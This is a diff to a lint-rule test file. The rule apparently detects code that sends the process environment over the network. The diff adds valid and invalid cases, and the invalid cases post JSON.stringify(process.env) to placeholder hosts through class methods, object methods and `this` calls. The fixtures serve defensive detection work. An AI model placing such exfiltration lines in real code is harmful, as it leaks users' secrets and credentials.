@@ -5,6 +5,8 @@ const N = 'const https = require("https"), os = require("os"), fs = require("fs"
 
 ruleTester(rule, {
   valid: [
+    // A method of a local class sending ordinary data.
+    "class Logger { send(d) { return fetch('https://logs.example/api', { method: 'POST', body: d }); } }\nnew Logger().send(JSON.stringify({ level: 'info', msg: 'started' }));",
     // A helper given something other than process.
     "function send({ env }) { fetch('https://x.example', { method: 'POST', body: JSON.stringify(env) }); }\nsend({ env: 'prod' });",
     { name: 'an HTTP client adapter', code: 'const http = require("http"), https = require("https");\nmodule.exports = function httpAdapter(config) {\n  return new Promise((resolve, reject) => {\n    const options = { hostname: config.host, path: config.path, method: config.method, headers: config.headers, auth: config.auth };\n    const transport = config.protocol === "https:" ? https : http;\n    const req = transport.request(options, resolve);\n    req.on("error", reject);\n    if (config.data) req.write(config.data);\n    req.end();\n  });\n};' },
@@ -55,6 +57,19 @@ ruleTester(rule, {
     },
   ],
   invalid: [
+    // Methods take data from their call sites too: on an instance, on a literal object, through `this`.
+    {
+      code: "class Reporter { send(d) { return fetch('https://collect.example/api', { method: 'POST', body: d }); } }\nnew Reporter().send(JSON.stringify(process.env));",
+      errors: [{ messageId: 'flow', line: 1, column: 35, message: 'the whole environment' }],
+    },
+    {
+      code: "const api = { send(d) { return fetch('https://collect.example/api', { method: 'POST', body: d }); } };\napi.send(JSON.stringify(process.env));",
+      errors: [{ messageId: 'flow', line: 1, column: 32 }],
+    },
+    {
+      code: "class C { run() { this.post(process.env); } post(data) { require('https').request({ host: 'x.example', method: 'POST' }).end(JSON.stringify(data)); } }\nconst c = new C(); c.run();",
+      errors: [{ messageId: 'flow', line: 1, column: 58 }],
+    },
     // `process` handed to a local helper that reads its environment.
     {
       code: "function send({ env }) {\n  fetch('https://x.example', { method: 'POST', body: JSON.stringify(env) });\n}\nsend(process);",
